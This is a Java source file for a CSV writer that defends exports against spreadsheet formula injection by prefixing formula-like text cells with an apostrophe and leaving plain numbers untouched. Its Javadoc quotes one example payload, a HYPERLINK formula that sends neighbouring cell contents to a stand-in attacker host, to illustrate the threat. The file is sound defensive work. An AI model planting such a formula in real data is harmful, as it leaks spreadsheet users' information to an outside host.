package org.kehu.shared.export;

import java.io.Closeable;
import java.io.IOException;
import java.math.BigDecimal;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Pattern;

import de.siegmar.fastcsv.writer.CsvWriter;

/**
 * FastCSV's writer with every text cell made safe to open in a spreadsheet: a cell that starts with {@code =},
 * {@code +}, {@code -}, {@code @}, a tab or a carriage return would be read as a formula by Excel or LibreOffice
 * (a customer named {@code =HYPERLINK("http://evil.example/?x="&A1,"click")} would send the neighbouring cells
 * away), so it gets a leading {@code '} as OWASP advises ("CSV Injection"). Every CSV that Kehu writes goes
 * through here, directly or through {@link TableExport}.
 * <p>
 * Numbers stay numbers: a {@link Number} value is written as plain digits and never prefixed, and neither is a
 * text cell that is nothing but a plain decimal number (say {@code -12.5}, as the stock exports write their signed
 * quantities): a spreadsheet reads such a cell as a number, not as a formula, and a {@code '} would turn a
 * negative amount into text that no longer sums.
 */
public final class SafeCsvWriter implements Closeable {

    private static final Pattern PLAIN_NUMBER = Pattern.compile("[+-]?\\d+(\\.\\d+)?");

    private final CsvWriter csv;

    public SafeCsvWriter(CsvWriter csv) {
        this.csv = csv;
    }

    /** One record of text fields; {@code null} is written as an empty field. */
    public SafeCsvWriter writeRecord(String... fields) {
        return writeRecord(java.util.Arrays.asList((Object[]) fields));
    }

    /** One record; each value is text (or {@code null}) or a {@link Number}. */
    public SafeCsvWriter writeRecord(List<?> values) {
        List<String> fields = new ArrayList<>(values.size());
        for (Object value : values) {
            fields.add(cell(value));
        }
        csv.writeRecord(fields);
        return this;
    }

    public void flush() throws IOException {
        csv.flush();
    }

    @Override
    public void close() throws IOException {
        csv.close();
    }

    /** The text of one cell: numbers as plain digits, text neutralised where a spreadsheet would run it. */
    static String cell(Object value) {
        if (value == null) {
            return "";
        }
        if (value instanceof BigDecimal decimal) {
            return decimal.toPlainString();
        }
        if (value instanceof Number number) {
            return number.toString();
        }
        return neutralise(value.toString());
    }

    /** {@code text} with a leading {@code '} where a spreadsheet would take it for a formula. */
    public static String neutralise(String text) {
        if (text.isEmpty() || !startsLikeAFormula(text.charAt(0)) || PLAIN_NUMBER.matcher(text).matches()) {
            return text;
        }
        return "'" + text;
    }

    private static boolean startsLikeAFormula(char first) {
        return first == '=' || first == '+' || first == '-' || first == '@' || first == '\t' || first == '\r';
    }
}
